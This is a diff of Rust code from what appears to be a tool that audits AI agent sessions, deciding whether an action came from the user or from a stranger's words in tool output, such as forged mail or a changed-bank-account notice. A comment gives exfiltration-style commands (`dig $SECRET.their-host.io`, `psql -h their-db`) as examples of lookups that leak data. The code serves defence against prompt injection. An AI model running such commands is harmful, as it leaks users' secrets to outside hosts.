@@ -442,9 +442,9 @@ pub fn trace(session: &Session, judge: &dyn Judge, threshold: f64) -> Report {
             // speaks may be anyone's (a reply in the thread from a forged sender): all of it is
             // a stranger's then.
             let delegated = delegated.filter(|_| voice.is_none() || !lists_records(&call.output));
-            // So is a paragraph that announces a bank account as new or changed: what a payee's
-            // fraud sounds like, whoever's message it is in. Each part keeps its paragraphs'
-            // numbers (blank ones stand for the other's).
+            // A stranger's, too, is a paragraph that announces a bank account as new or changed:
+            // what a payee's fraud sounds like, whoever's message it is in. Each part keeps its
+            // paragraphs' numbers (blank ones stand for the other's).
             let voice_paragraph = voice.map(|voice| call.output[..voice.start()].matches("\n\n").count());
             let strangers = |n: usize, p: &str| voice_paragraph.is_some_and(|v| n >= v) || CHANGED_ACCOUNT.is_match(p);
             let part = |theirs: bool| -> String {
@@ -1673,11 +1673,11 @@ impl Values {
                         })
                         .flatten()
                 };
-                // Looking something up (`gh pr view 212 --comments`, `dig TXT …`, `kubectl
-                // describe`) is part of whatever the person asked, a question above all: it
-                // changes nothing, and no one else's words led it.
-                // Not a look that carries what the person never wrote (a host, an address, a
-                // path, a variable): `dig $SECRET.their-host.io` and `psql -h their-db` send it.
+                // Looking something up (`gh pr view 212 --comments`, `kubectl describe`) is part of
+                // whatever the person asked, a question above all: it changes nothing, and no one
+                // else's words led it. Not a look that carries what the person never wrote (a
+                // host, an address, a path, a variable): `dig $SECRET.their-host.io` and `psql -h
+                // their-db` send it.
                 let carries_only_theirs = || {
                     let written = |word: &str| self.requests.iter().any(|(text, _)| text.contains(word));
                     effect::command_text(&call.input)
@@ -1723,7 +1723,7 @@ impl Values {
                     .or_else(notice_led)
                 {
                     Some(voice) => Ok(Found::instructed_by(voice, f.runners_up)),
-                    None => match silent_step().or_else(|| looks_for_them()) {
+                    None => match silent_step().or_else(looks_for_them) {
                         Some((_, request)) => Ok(Found::asked_by(request, f.runners_up)),
                         None => Ok(f),
                     },
